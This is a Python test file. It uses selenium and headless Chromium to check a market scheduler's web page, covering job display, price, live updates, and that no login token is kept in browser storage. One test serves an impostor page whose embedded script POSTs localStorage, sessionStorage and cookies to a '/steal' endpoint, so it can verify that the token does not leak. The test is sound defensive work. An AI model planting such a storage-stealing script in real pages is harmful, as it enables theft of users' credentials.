"""The market's web page in headless Chromium (Debian's chromium and chromium-driver, driven
with selenium): it loads, takes the token in its form, shows a submitted job and the price,
and updates by itself after a completion; and a process that takes the port while the broker
is down gets neither the token nor anything that stands for it. A screenshot is saved (to
$MARKETSCHED_ARTIFACTS if set, else the test's tmp folder; its path is printed)."""

import hashlib
import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from browser_helpers import fresh, wait
from live_helpers import wait_for
from marketsched.live.broker import Broker, MarketConfig
from marketsched.live.server import MarketServer


def login(browser, token):
    from selenium.webdriver.common.by import By

    assert wait(browser, lambda d: d.find_element(By.ID, "login").is_displayed())
    browser.find_element(By.ID, "token").send_keys(token)
    browser.find_element(By.ID, "save").click()


def test_web_page_shows_jobs_price_and_updates(tmp_path, browser):
    from selenium.webdriver.common.by import By

    broker = Broker(tmp_path / "market", MarketConfig(slots=1, single_user=True)).start()
    admin_token = broker.ensure_admin()
    srv = MarketServer(broker, "127.0.0.1", 0)
    srv.serve_in_thread()
    try:
        # deposits that last far longer than any wait below (bob pays 2/s while his job runs): no user is
        # held for want of money however long a loaded machine takes; alice's job runs until the test ends
        broker.add_user(True, "alice", 100_000)
        broker.add_user(True, "bob", 100_000)
        low = broker.submit("alice", False, 2.0, f"while [ ! -e {tmp_path / 'never'} ]; do sleep 0.05; done")["id"]
        # alice's job runs (its process launched) before bob's arrives: bob's preempts it
        assert wait_for(lambda: (lambda j: j["state"] == "running" and j["pid"] is not None)(
            broker.job("alice", False, low)))
        release = tmp_path / "release-high"  # bob's job runs until the test has seen the page with it
        high = broker.submit("bob", False, 5.0, f"while [ ! -e {release} ]; do sleep 0.05; done")["id"]
        browser.get(f"{srv.url}/")
        login(browser, admin_token)

        def text(el_id):
            return fresh(lambda: browser.find_element(By.ID, el_id).text)

        # each refresh renders one response of the API; the state holds until the test releases bob's job,
        # so the rest is waited for too (the API's price and job list are separate reads of the broker)
        assert wait(browser, lambda d: f"\n{high} bob 5.00" in "\n" + text("running"))
        assert wait(browser, lambda d: f"{low} alice 2.00 preempted" in text("queue"))
        assert wait(browser, lambda d: text("price") == "2.000")  # k-th price: the best queued bid
        assert wait(browser, lambda d: "HB / k-th price" in text("mech") and text("me") == "admin (admin)")
        assert wait(browser, lambda d: all(s in text("balances") for s in ("alice", "bob", "total deposits 200000.000")))
        assert wait(browser, lambda d: fresh(lambda: browser.find_element(By.ID, "price-line").get_attribute(
            "d")).startswith("M"))
        out = Path(os.environ.get("MARKETSCHED_ARTIFACTS") or tmp_path)
        out.mkdir(parents=True, exist_ok=True)
        assert browser.save_screenshot(str(out / "live_market_preemption.png"))
        refreshes = int(fresh(lambda: browser.find_element(By.TAG_NAME, "body").get_attribute("data-refreshes")))
        # bob's job completes: without a reload, the page shows it ended and alice's job running again
        release.touch()
        assert wait(browser, lambda d: f"{high} bob completed 0" in text("recent"))
        assert wait(browser, lambda d: f"\n{low} alice 2.00" in "\n" + text("running"))
        assert wait(browser, lambda d: text("price") == "1.000")  # nothing queued: the reservation price
        assert int(fresh(lambda: browser.find_element(By.TAG_NAME, "body").get_attribute("data-refreshes"))) > refreshes
        kept = browser.execute_script("return JSON.stringify(localStorage) + JSON.stringify(sessionStorage) + "
                                      "document.cookie + location.href")
        assert admin_token not in kept and hashlib.sha256(admin_token.encode()).hexdigest() not in kept
        shot = out / "live_market_page.png"
        assert browser.save_screenshot(str(shot)) and shot.stat().st_size > 10_000
        print(f"screenshots: {out / 'live_market_preemption.png'}, {shot}")
        # a reload forgets the token; a wrong one: the page says so and asks again
        browser.refresh()
        login(browser, "wrong")
        assert wait(browser, lambda d: "wrong token" in text("error"))
        assert wait(browser, lambda d: fresh(lambda: browser.find_element(By.ID, "login").is_displayed()))
    finally:
        srv.shutdown()
        srv.server_close()
        broker.stop(kill_jobs=True)


IMPOSTOR_PAGE = b"""<!doctype html><html><body><script>
fetch("/steal", {method: "POST", body: JSON.stringify({local: JSON.stringify(localStorage),
  session: JSON.stringify(sessionStorage), cookie: document.cookie, url: location.href})});
</script></body></html>"""


class Impostor(BaseHTTPRequestHandler):
    """Records every request it gets; serves a page that sends it whatever the browser keeps
    for this origin; answers the market's API as if the token were wrong."""

    seen: list = []

    def log_message(self, *args):
        pass

    def _record(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        self.seen.append(f"{self.command} {self.path}\n{self.headers}\n{body.decode(errors='replace')}")

    def _send(self, status, body, ctype):
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self._record()
        if self.path == "/":
            self._send(200, IMPOSTOR_PAGE, "text/html")
        else:
            self._send(401, b'{"error": "wrong token: no user has this token"}', "application/json")

    def do_POST(self):
        self._record()
        self._send(200, b"{}", "application/json")


def test_a_process_that_takes_the_port_gets_no_token(tmp_path, browser):
    from selenium.webdriver.common.by import By

    broker = Broker(tmp_path / "market", MarketConfig(slots=1)).start()
    admin_token = broker.ensure_admin()
    srv = MarketServer(broker, "127.0.0.1", 0)
    srv.serve_in_thread()
    impostor = None
    try:
        browser.get(f"{srv.url}/")
        login(browser, admin_token)
        assert wait(browser, lambda d: d.find_element(By.ID, "me").text == "admin (admin)")
        port = srv.port
        srv.shutdown()  # the broker's server is down; someone else takes its port
        Impostor.seen = []
        impostor = ThreadingHTTPServer(("127.0.0.1", port), Impostor)
        threading.Thread(target=impostor.serve_forever, daemon=True).start()
        # the open page polls on: now the impostor answers (401: the page forgets its key and asks again)
        assert wait(browser, lambda d: any("/api/market" in r for r in Impostor.seen)), Impostor.seen
        assert wait(browser, lambda d: d.find_element(By.ID, "login").is_displayed())
        # the impostor serves its own page at the same origin (a reload, a bookmark)
        browser.refresh()
        assert wait(browser, lambda d: any(r.startswith("POST /steal") for r in Impostor.seen)), Impostor.seen
        got = "\n".join(Impostor.seen)
        token_hash = hashlib.sha256(admin_token.encode()).hexdigest()
        assert "MarketSig kid=" in got  # the page's signed reads reached the impostor ...
        assert admin_token not in got and token_hash not in got  # ... and neither the token nor its hash did
        assert "Bearer" not in got
    finally:
        if impostor is not None:
            impostor.shutdown()
            impostor.server_close()
        srv.shutdown()
        broker.stop(kill_jobs=True)
